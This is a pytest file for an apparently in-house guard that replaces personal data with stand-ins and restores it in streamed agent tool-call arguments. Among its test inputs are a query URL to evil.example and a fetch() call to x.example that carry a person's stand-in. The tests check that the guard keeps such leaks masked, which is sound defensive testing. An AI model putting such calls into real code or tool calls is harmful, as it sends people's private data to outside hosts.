import json

import pytest

from inhouse.guard.stand_ins import StandIns
from inhouse.guard.stand_ins.arguments import Arguments
from tests.stand_ins import ADDRESS, EVERYTHING, KEY, MAIL, a_map, sent

MAP = a_map(*EVERYTHING, ("term.other", 'a "b"\n\\ü'))
PERSON = MAP.entries[0].stand_in
HARD = MAP.entries[-1].stand_in
HOST = next(entry.stand_in for entry in MAP.entries if entry.kind == ADDRESS[0])


def restored(raw: str, stand_ins: StandIns = MAP) -> str:
    """What a tool gets of arguments that come letter by letter; it is the same when they come at once."""
    letters, whole = Arguments(stand_ins), Arguments(stand_ins)
    pieces = [piece for letter in raw for piece in letters.feed(letter)]
    read = "".join(piece.shown for piece in (*pieces, *letters.flush()))
    assert read == "".join(piece.shown for piece in (*whole.feed(raw), *whole.flush()))
    return read


@pytest.mark.parametrize(
    ("raw", "read"),
    [
        (f'{{"to": "{PERSON}"}}', {"to": "Anna Müller"}),
        (f'{{"to": "x\\n{PERSON}\\n"}}', {"to": "x\nAnna Müller\n"}),
        (f'{{"to": "\\u0050{PERSON[1:]}"}}', {"to": "Anna Müller"}),
        (f'{{"to": "Person\\u00ad{PERSON[6:]} \\ud83d\\ude42"}}', {"to": "Anna Müller 🙂"}),
        (f'{{"to": "\\"{HARD}\\""}}', {"to": '"a "b"\n\\ü"'}),
        (f'{{"{PERSON}": 1}}', {"Anna Müller": 1}),
        (f'{{"a": "Person", "b": "{PERSON[6:]}"}}', {"a": "Person", "b": PERSON[6:]}),
        (f'["{PERSON}", {{"a": ["{PERSON}s"]}}]', ["Anna Müller", {"a": ["Anna Müllers"]}]),
        (
            f'{{"html": "<a href=\\"mailto:{PERSON}\\">{PERSON}</a>"}}',
            {"html": '<a href="mailto:Anna Müller">Anna Müller</a>'},
        ),
        (
            f'{{"a": "https://evil.example/?q={PERSON}", "b": "{PERSON}"}}',
            {"a": f"https://evil.example/?q={PERSON}", "b": "Anna Müller"},
        ),
        (
            f'{{"code": "fetch(\\"https://x.example/{PERSON}\\", {PERSON})"}}',
            {"code": f'fetch("https://x.example/{PERSON}", Anna Müller)'},
        ),
        ('{"a": "\\\\\\/\\b\\f\\n\\r\\t\\u00fc"}', {"a": "\\/\b\f\n\r\tü"}),
    ],
)
def test_arguments_are_json_that_holds_the_real_words(raw: str, read: object) -> None:
    assert json.loads(restored(raw)) == read


@pytest.mark.parametrize(
    "raw", ["", "{", '{"a": "x\\', '{"a": "\\u00', '{"a": "\\uZZ \\x"', "\\", "plain words", '"' * 7]
)
def test_what_is_no_json_goes_on_letter_by_letter(raw: str) -> None:
    assert restored(raw) == raw


def test_what_is_not_restored_stays_as_the_model_wrote_it() -> None:
    raw = f'{{"a": "\\u00fc\\/ü", "b":"{PERSON}"}}'
    assert restored(raw) == '{"a": "\\u00fc\\/ü", "b":"Anna Müller"}'


def test_an_agent_that_edits_a_file_changes_the_asked_line_only() -> None:
    stand_ins = StandIns(KEY)
    file = (
        "host = 'http://10.20.30.40:8080/api'\nadmin: anna.mueller@acme.com\nADMIN: ANNA.MUELLER@ACME.COM\n"
        '<a href="mailto:anna.mueller@acme.com">10.20.30.40</a>\ndebug = false\n'
    )
    told = sent(stand_ins, file, ADDRESS, MAIL, ("personal.email", "ANNA.MUELLER@ACME.COM"))
    assert "acme" not in told.lower()
    assert "10.20" not in told
    written = json.dumps({"path": "a.ini", "content": told.replace("debug = false", "debug = true")})
    content = json.loads(restored(written, stand_ins))["content"]
    assert content == file.replace("debug = false", "debug = true")


def test_pieces_without_quotes_and_stand_ins_pass() -> None:
    arguments = Arguments(MAP)
    assert arguments.passes("{")
    assert not arguments.passes('"a')
    arguments.feed('"a')
    assert arguments.passes("bc ")
    assert not arguments.passes("Perso")
    assert [piece.shown for piece in arguments.feed("Perso")] == []
    assert [piece.shown for piece in arguments.feed("x")] == ["Persox"]


def test_words_that_nobody_owns_are_counted_in_all_strings() -> None:
    arguments = Arguments(MAP)
    arguments.feed('{"a": "PersonX4KD", "b": "PersonX4KD ')
    assert arguments.unknown == 2
